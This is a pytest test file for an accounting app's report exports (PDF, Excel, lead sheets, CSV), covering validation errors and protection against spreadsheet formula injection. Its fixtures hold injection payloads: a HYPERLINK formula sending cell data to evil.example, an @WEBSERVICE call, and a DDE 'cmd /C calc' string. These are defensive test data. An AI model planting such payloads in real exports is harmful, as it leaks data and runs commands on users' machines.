"""Exports are safe and strict: account names that look like formulas come out inert, a
malformed analysis is a 422 naming the field, and nothing is stored."""

from __future__ import annotations

import io
import re
import zipfile
from typing import Any

import pytest
from fastapi.testclient import TestClient
from pypdf import PdfReader

from fiscus.diagnostics import api_exports
from tests.diagnostics.exports_support import (
    CURRENT,
    analyse,
    export,
    exported,
    pdf_text,
    read_csv,
    workbook,
)
from tests.support.builders import Account, register

HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"Suspense - click me")'
INJECTED = (
    '\n,"=HYPERLINK(""http://evil.example/?d=""&A1,""Suspense - click me"")",500.00,'
    "\n,@WEBSERVICE(A1) clearing,,500.00"
    "\n6-2400,\"+cmd|' /C calc'!A0 Sundry\",120.00,"
    "\n6-2410,-2+3 Sundry refunds,,120.00"
)
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")
KINDS = ("pdf", "excel", "leadsheets", "csv")


@pytest.fixture
def alice(client: TestClient) -> Account:
    return register(client, "Alice")


@pytest.fixture
def analysis(client: TestClient, alice: Account) -> dict[str, Any]:
    return analyse(client, alice, CURRENT.read_bytes())


@pytest.fixture
def hostile(client: TestClient, alice: Account) -> dict[str, Any]:
    """The fixture with four accounts whose names a spreadsheet would run as formulas."""
    lines = CURRENT.read_text().rstrip("\n").split("\n")
    data = "\n".join(lines[:-1]) + INJECTED + "\n" + lines[-1] + "\n"
    body = analyse(client, alice, data.encode())
    names = {a["name"] for a in body["accounts"]}
    assert HYPERLINK in names
    assert "@WEBSERVICE(A1) clearing" in names
    return body


def _string_cells(book: Any) -> list[tuple[str, str]]:
    return [
        (sheet.title, cell.value)
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if isinstance(cell.value, str) and cell.data_type != "f"
    ]


@pytest.mark.parametrize("kind", ["excel", "leadsheets"])
def test_formula_like_names_are_inert_text_in_the_workbooks(
    client: TestClient, alice: Account, hostile: dict[str, Any], kind: str
) -> None:
    response = exported(client, alice, kind, hostile)
    book = workbook(response, values=False)
    texts = _string_cells(book)
    assert not [t for t in texts if t[1].startswith(DANGEROUS)]
    assert any(value == "'" + HYPERLINK for _, value in texts)
    assert any(value == "'@WEBSERVICE(A1) clearing" for _, value in texts)
    assert any(value == "'+cmd|' /C calc'!A0 Sundry" for _, value in texts)
    # The only formulas are the roll-forwards' own arithmetic.
    formulas = [
        (sheet.title, cell.value)
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type == "f"
    ]
    assert all(t.startswith("RF ") and v.startswith(("=SUM(B", "=B")) for t, v in formulas)
    with zipfile.ZipFile(io.BytesIO(response.content)) as archive:
        xml = b"".join(archive.read(n) for n in archive.namelist() if n.endswith(".xml"))
    assert all(f.startswith((b"SUM(B", b"B")) for f in re.findall(rb"<f>(.*?)</f>", xml))


def test_formula_like_names_are_inert_in_the_csv_and_plain_text_in_the_pdf(
    client: TestClient, alice: Account, hostile: dict[str, Any]
) -> None:
    rows = read_csv(exported(client, alice, "csv", hostile))
    accounts = {r["account"] for r in rows}
    assert "'" + HYPERLINK in accounts
    assert "'@WEBSERVICE(A1) clearing" in accounts
    assert not [v for r in rows for v in r.values() if v.startswith(("=", "+", "@"))]
    response = exported(client, alice, "pdf", hostile)
    assert HYPERLINK in pdf_text(response)
    pages = PdfReader(io.BytesIO(response.content)).pages
    assert all("/Annots" not in page for page in pages)  # no link was made of it


def _errors(response: Any) -> list[str]:
    assert response.status_code == 422, response.text
    body = response.json()
    assert body["code"] == "validation_error"
    return [e["field"] for e in body["errors"]]


def test_a_malformed_analysis_is_a_422_naming_the_field(
    client: TestClient, alice: Account, analysis: dict[str, Any]
) -> None:
    missing = {k: v for k, v in analysis.items() if k != "accounts"}
    assert _errors(export(client, alice, "pdf", missing)) == ["accounts"]
    bad = {**analysis, "anomalies": [{**analysis["anomalies"][0], "severity": "dire"}]}
    assert _errors(export(client, alice, "excel", bad)) == ["anomalies.0.severity"]
    accounts = [dict(a) for a in analysis["accounts"]]
    accounts[3]["lead_sheet"] = "Q"
    assert _errors(export(client, alice, "leadsheets", {**analysis, "accounts": accounts})) == [
        "accounts.3.lead_sheet"
    ]
    accounts[3] = {**analysis["accounts"][3], "debit": "NaN"}
    assert _errors(export(client, alice, "csv", {**analysis, "accounts": accounts})) == [
        "accounts.3.debit"
    ]
    wrong = {**analysis, "engagement": {"entity": "X", "partner": "Y"}}
    assert _errors(export(client, alice, "pdf", wrong)) == ["engagement.partner"]
    prior = {**analysis, "risk_score": 101}
    assert _errors(export(client, alice, "leadsheets", {**analysis, "prior": prior})) == [
        "prior.risk_score"
    ]


def test_figures_that_contradict_each_other_are_refused(
    client: TestClient, alice: Account, analysis: dict[str, Any]
) -> None:
    accounts = [dict(a) for a in analysis["accounts"]]
    accounts[5]["net"] = "1.00"
    fields = _errors(export(client, alice, "excel", {**analysis, "accounts": accounts}))
    assert fields == ["accounts.5.net"]
    tampered = {**analysis, "total_debits": "1.00"}
    assert _errors(export(client, alice, "pdf", tampered)) == ["total_debits", "difference"]
    unbalanced = {**analysis, "balanced": False}
    assert _errors(export(client, alice, "csv", unbalanced)) == ["balanced"]


def test_not_json_wrong_type_and_too_large_bodies(
    client: TestClient, alice: Account, analysis: dict[str, Any], monkeypatch: pytest.MonkeyPatch
) -> None:
    url = "/api/v1/diagnostics/export/pdf"
    json_headers = {**alice.headers, "Content-Type": "application/json"}
    response = client.post(url, content=b'{"balanced": tru', headers=json_headers)
    assert response.status_code == 422
    assert response.json()["code"] == "validation_error"
    response = client.post(
        url, content=b"a,b\n1,2\n", headers={**alice.headers, "Content-Type": "text/csv"}
    )
    assert response.status_code == 415
    assert response.json()["code"] == "unsupported_media_type"
    monkeypatch.setattr(api_exports, "MAX_BODY_BYTES", 10_000)
    response = export(client, alice, "excel", analysis)
    assert response.status_code == 413
    assert (response.json()["code"], response.json()["allowed"]) == ("export_too_large", 10_000)


def test_exports_store_nothing(
    client: TestClient, alice: Account, analysis: dict[str, Any]
) -> None:
    def audit_total() -> int:
        response = client.get("/api/v1/audit/logs", headers=alice.headers)
        assert response.status_code == 200, response.text
        total: int = response.json()["total"]
        return total

    before = audit_total()
    for kind in KINDS:
        exported(client, alice, kind, analysis)
    assert audit_total() == before
